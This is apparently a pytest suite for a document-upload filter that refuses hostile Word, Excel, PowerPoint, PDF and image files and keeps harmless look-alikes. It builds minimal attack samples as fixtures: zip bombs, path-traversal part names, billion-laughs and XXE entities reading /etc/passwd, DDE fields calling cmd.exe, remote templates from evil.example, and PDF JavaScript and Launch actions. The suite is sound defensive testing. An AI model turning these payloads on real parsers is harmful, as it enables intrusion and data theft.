"""Hostile files are refused with a sentence of their own; their harmless neighbours are kept.

Run once: no file is asked about in the database.
"""

import io
import subprocess
import sys
import zlib

import pypdfium2
import pytest

from renkei.documents.bounded import ROOT
from renkei.documents.content import media_type
from renkei.documents.hostile import DocumentRefused, refuse_hostile
from tests.documents import hostile_files as made
from tests.documents.hostile_files import (
    EXCEL,
    SLIDES,
    WORD,
    archive,
    excel,
    field,
    linked,
    packed_object,
    pdf,
    types,
    with_chart,
    word,
)

LAUGHS = (
    "<!DOCTYPE a ["
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]><a>&l9;</a>"
)
XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
SLIDE_MAIN = f"{SLIDES}.main+xml"
ATTACHED = b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"


def slides(action):
    body = f'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="{action}"/></p:sld>'
    parts = {"ppt/presentation.xml": "<p/>", "ppt/slides/slide1.xml": body}
    return archive({"[Content_Types].xml": types([("ppt/presentation.xml", SLIDE_MAIN)]), **parts})


HOSTILE = {
    # archives that swell or lie
    "a bomb of 1:1000": (word({"word/a.bin": b"0" * 30 * 1024**2}), "大きくなりすぎる"),
    "6,000 parts": (word({f"word/{n}.xml": "<a/>" for n in range(6000)}), "部品が多すぎる"),
    "a declared size of 4 GB": (made.lying(24, 0xFFFFFF00), "大きくなりすぎる|目録の合わない"),
    "a declared size too small": (made.lying(24, 3), "目録の合わない"),
    "a wrong checksum": (made.lying(16, 1), "目録の合わない"),
    "two names for the same bytes": (made.overlapping(), "目録の合わない"),
    "encrypted parts": (made.encrypted_entry(), "パスワードを外して"),
    "a cut archive": (word()[:-30], "壊れている|どれでもない"),
    "a part twice": (word({"WORD/Document.xml": made.BODY}), "正しくない名前"),
    "a part that leads out": (word({"../../etc/cron.d/a": "x"}), "正しくない名前"),
    "a part at an absolute place": (word({"/etc/passwd": "x"}), "正しくない名前"),
    "a part that leads out of Windows": (word({"word\\..\\..\\a.exe": "x"}), "正しくない名前"),
    "a part on a drive": (word({"C:/a.exe": "x"}), "正しくない名前"),
    "a zip in the zip": (word({"word/media/a.png": archive({"a": "b"})}), "別の圧縮ファイル"),
    # programs
    "macros": (word({"word/vbaProject.bin": "x"}), "マクロ"),
    "macros under another name": (
        word({"word/a.dat": "x"}, overrides=[("word/a.dat", "application/vnd.ms-office.vbaProject")]),
        "マクロ",
    ),
    "macros by extension": (
        word({"word/a.dat": "x"}, defaults=[("dat", "application/vnd.ms-office.vbaProject")]),
        "マクロ",
    ),
    "a relation to macros": (
        linked(("vbaProject", "a.dat", False)),
        "マクロ",
    ),
    ".docm": (word(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "マクロ"),
    ".dotm": (word(main="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"), "マクロ"),
    "ActiveX": (word({"word/activeX/activeX1.xml": "<a/>"}), "マクロ"),
    "a control": (linked(("control", "c.xml", False)), "マクロ"),
    "an Excel 4 macro sheet": (excel({"xl/macrosheets/sheet1.xml": "<a/>"}), "マクロ"),
    "a macro sheet under another name": (
        excel({"xl/worksheets/a.xml": "<a/>"}, [("xl/worksheets/a.xml", "application/vnd.ms-excel.macrosheet+xml")]),
        "マクロ",
    ),
    "a slide that starts a program": (slides("ppaction://program"), "マクロ"),
    "a DDE field": (field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), "DDE"),
    "a DDE field cut into runs": (field(" DD", "EAU", "TO excel a b"), "DDE"),
    "a simple DDE field": (
        word(body=made.BODY.replace("<w:body>", '<w:body><w:p><w:fldSimple w:instr="DDE cmd a"/></w:p>')),
        "DDE",
    ),
    "a DDE link of a workbook": (
        excel({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
        "DDE",
    ),
    # references to elsewhere
    "a template from the net": (linked(("attachedTemplate", "https://evil.example/a.dotm", True)), "外部から読み込む"),
    "a template from a share": (linked(("attachedTemplate", r"file://\\evil\a.dotm", True)), "外部から読み込む"),
    "a template from a bare share": (linked(("attachedTemplate", r"\\evil\a.dotm", True)), "外部から読み込む"),
    "a template, its address escaped": (linked(("attachedTemplate", "%68ttp://evil/a", True)), "外部から読み込む"),
    "a linked object": (linked(("oleObject", "a.xlsx", True)), "外部から読み込む"),
    "a frame": (linked(("frame", "a.html", True)), "外部から読み込む"),
    "a subdocument": (linked(("subDocument", "a.docx", True)), "外部から読み込む"),
    "a linked picture": (linked(("image", "http://evil.example/a.png", True)), "外部から読み込む"),
    "a picture by field": (field(' INCLUDEPICTURE "http://evil.example/a.png" '), "外部から読み込む"),
    "a linked object of a sheet": (
        excel({"xl/worksheets/_rels/sheet1.xml.rels": made.relations(("oleObject", "a.docx", True))}),
        "外部から読み込む",
    ),
    "a link to a workbook of a share": (
        excel({"xl/_rels/workbook.xml.rels": made.relations(("externalLinkPath", r"file:///\\evil\a.xlsx", True))}),
        "外部から読み込む",
    ),
    # files in the file
    "an embedded object": (word({"word/embeddings/oleObject1.bin": "x"}), "埋め込まれて"),
    "an embedded object elsewhere": (linked(("oleObject", "media/a.bin", False)), "埋め込まれて"),
    "an embedded workbook of no chart": (linked(("package", "embeddings/a.xlsx", False)), "埋め込まれて"),
    "another text inside": (linked(("aFChunk", "a.html", False)), "埋め込まれて"),
    "macros in a chart's workbook": (with_chart(excel({"xl/vbaProject.bin": "x"})), "マクロ"),
    "a program as a chart's workbook": (with_chart(b"MZ\x90"), "埋め込まれて"),
    # XML
    "a billion laughs": (word(body=LAUGHS), "DTD"),
    "an external entity": (word(body=XXE), "DTD"),
    "an external entity in UTF-16": (word(body=XXE.encode("utf-16")), "DTD"),
    "entities among the properties": (word({"docProps/core.xml": LAUGHS}), "DTD"),
    "entities in a drawing": (word({"word/a.vml": XXE}), "DTD"),
    "broken XML": (word(body=made.BODY[:-9]), "壊れている"),
    "broken relations": (word({"word/_rels/document.xml.rels": "<a"}), "壊れている"),
    "elements 10⁵ deep": (word(body="<a>" * 100_000 + "</a>" * 100_000), "壊れている"),
    "a text that says it is a program": (word(main="application/x-msdownload"), "名乗っている種類"),
    "a text that says it is a workbook": (word(main=f"{EXCEL}.main+xml"), "名乗っている種類"),
    # PDF
    "JavaScript": (pdf(more=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "JavaScript"),
    "JavaScript, its name escaped": (pdf(more=b"/OpenAction<</S/Java#53cript/JS(1)>>"), "JavaScript"),
    "JavaScript in a packed object": (packed_object(b"<</S/JavaScript/JS(1)>>"), "JavaScript"),
    "a program to start": (pdf(b"<</S/Launch/F(cmd.exe)>>"), "起動する"),
    "an enclosed file": (pdf(ATTACHED, b"<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream"), "添付されているPDF"),
    "a film": (pdf(b"<</Type/Annot/Subtype/RichMedia>>"), "動画"),
    "an XFA form": (pdf(more=b"/AcroForm<</XFA[(a)4 0 R]>>"), "XFA"),
    "5,001 pages": (made.many_pages(5001), "ページが多すぎる"),
    # pictures and old files
    "a PNG of 50,000 × 50,000": (made.png(50_000, 50_000), "画像が大きすぎます"),
    "a JPEG of 60,000 × 60,000": (made.jpeg(60_000, 60_000), "画像が大きすぎます"),
    "an old file with macros": (made.old("_VBA_PROJECT"), "マクロ"),
    "an old file that encloses another": (made.old("\x01Ole10Native"), "埋め込まれて"),
    "a Word file under a password": (made.old("EncryptedPackage"), "パスワードを外して"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "sentence"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_file_is_refused_with_its_own_sentence(content, sentence):
    with pytest.raises(DocumentRefused, match=sentence) as refused:
        refuse_hostile(content, media_type(content) or WORD)
    assert str(refused.value).endswith("ください。")


HARMLESS = {
    "a Word file": word(),
    "a workbook": excel(),
    "hyperlinks": linked(("hyperlink", "https://www.example.jp/", True)),
    "a template on the writer's own disk": linked(
        ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", True)
    ),
    "a picture beside the file": linked(("image", "../a.png", True)),
    "a chart with its figures": with_chart(excel()),
    "a page number": field(" PAGE "),
    "a word that begins like DDE": field(' HYPERLINK "ADDED" '),
    "drawings that are no XML": word({"word/a.vml": "<v><br></v>"}),
    "broken properties": word({"docProps/app.xml": "<a"}),
    "a PDF": pdf(),
    "a PDF of nothing": b"%PDF-1.7\n%%EOF\n",
    "a broken PDF": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R",
    "a PDF nested 10⁵ deep": pdf(b"[" * 100_000 + b"]" * 100_000),
    "a PDF of 10⁵ objects": pdf(*[b"null"] * 100_000),
    "a PDF with a stream that swells": pdf(
        b"<</Filter/FlateDecode/Length 99>>stream\n" + zlib.compress(b"0" * 10**7) + b"\nendstream"
    ),
    "the letters of a program in a text": pdf(b"(JavaScript Launch)"),
    "a large scan": made.png(13_244, 18_724),
    "a photograph": made.jpeg(6000, 4000),
    "an old Word file": made.old("WordDocument"),
}


@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS.keys())
def test_its_harmless_neighbour_is_kept(content):
    kind = media_type(content)
    assert kind is not None
    refuse_hostile(content, kind)


def locked(user, owner):
    """A PDF encrypted by pyHanko under two passwords."""
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.pdf_utils.writer import copy_into_new_writer

    writer = copy_into_new_writer(
        PdfFileReader(io.BytesIO(pdf(b"<</S/Named/N/Print>>", more=b"/OpenAction 4 0 R")))
    )
    writer.encrypt(owner_pass=owner, user_pass=user)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def test_a_pdf_that_asks_for_a_password_is_refused_and_one_that_only_forbids_printing_is_kept():
    with pytest.raises(DocumentRefused, match="パスワードを外して"):
        refuse_hostile(locked("secret", "owner"), "application/pdf")
    forbidding = locked("", "owner")
    assert len(pypdfium2.PdfDocument(forbidding)) == 1
    refuse_hostile(forbidding, "application/pdf")


def test_who_signed_a_pdf_that_is_refused_is_told_that_it_must_be_signed_again():
    signed = pdf(b"<</S/JavaScript/JS(1)>>", b"<</Type/Sig/ByteRange[0 1 2 3]>>")
    with pytest.raises(DocumentRefused, match="署名し直してもらって"):
        refuse_hostile(signed, "application/pdf")


def test_no_mutation_ends_or_holds_up_the_process_that_looks():
    """600 of them, from 20 files; each is found harmless or dangerous, and nothing else happens."""
    command = [sys.executable, "-m", "tests.documents.mutations"]
    told = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert told.returncode == 0, told.stderr[-2000:]
    assert sum(map(int, told.stdout.split())) == 600
    assert all(map(int, told.stdout.split())), "Mutations must be of both kinds, or they prove nothing."
